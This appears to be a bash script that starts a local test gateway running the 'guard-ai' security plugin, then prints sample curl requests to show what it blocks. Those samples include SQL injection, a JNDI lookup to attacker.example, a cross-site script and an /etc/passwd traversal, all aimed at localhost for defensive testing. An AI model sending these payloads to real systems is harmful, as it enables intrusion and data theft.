#!/usr/bin/env bash
# Starts a local gateway on 127.0.0.1:8000 (admin API on 127.0.0.1:8001): Debian's nginx running the
# unchanged guard-ai plugin through localgw's Kong PDK layer, in front of a built-in echo upstream on
# 127.0.0.1:8080, configured by examples/kong.yml. Installs and builds first. Stop it with
#   localgw/bin/localgw stop --prefix .run/gateway
set -euo pipefail
cd "$(dirname "$0")/.."
scripts/setup.sh
prefix=.run/gateway
mkdir -p "$prefix"
localgw/bin/localgw stop --prefix "$prefix" >/dev/null 2>&1 || true
# examples/kong.yml points its service at the echo upstream on 8080: follow GUARD_ECHO_PORT when it is moved.
echo_port=${GUARD_ECHO_PORT:-8080}
config="$prefix/kong.yml"
sed "s|http://127.0.0.1:8080|http://127.0.0.1:$echo_port|" examples/kong.yml > "$config"
localgw/bin/localgw start --config "$config" --prefix "$prefix" \
  --proxy-port "${GUARD_PROXY_PORT:-8000}" --admin-port "${GUARD_ADMIN_PORT:-8001}" \
  --echo-port "$echo_port" --workers "${GUARD_WORKERS:-2}"
p=${GUARD_PROXY_PORT:-8000}
a=${GUARD_ADMIN_PORT:-8001}
cat <<MSG

Kong Guard AI local gateway is running (logs: $prefix/logs/error.log).
Try:
  curl -i "http://127.0.0.1:$p/api/search?q=kong+gateway"                       # 200 from the echo upstream
  curl -i "http://127.0.0.1:$p/api/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"   # 403 sqli
  curl -i -H 'User-Agent: \${jndi:ldap://attacker.example/a}' "http://127.0.0.1:$p/api/"            # 403 jndi
  curl -i -H 'Content-Type: application/json' -d '{"comment":"<script>alert(1)</script>"}' "http://127.0.0.1:$p/api/comments"
  curl -i "http://127.0.0.1:$p/monitored/?file=../../etc/passwd"               # 200, X-Guard-Action: monitor
  curl -s -X POST -H 'Content-Type: application/json' -d '{"name":"guard-ai","config":{"mode":"blok"}}' \\
       "http://127.0.0.1:$a/schemas/plugins/validate"                          # 400 naming config.mode
Stop: localgw/bin/localgw stop --prefix $prefix
MSG
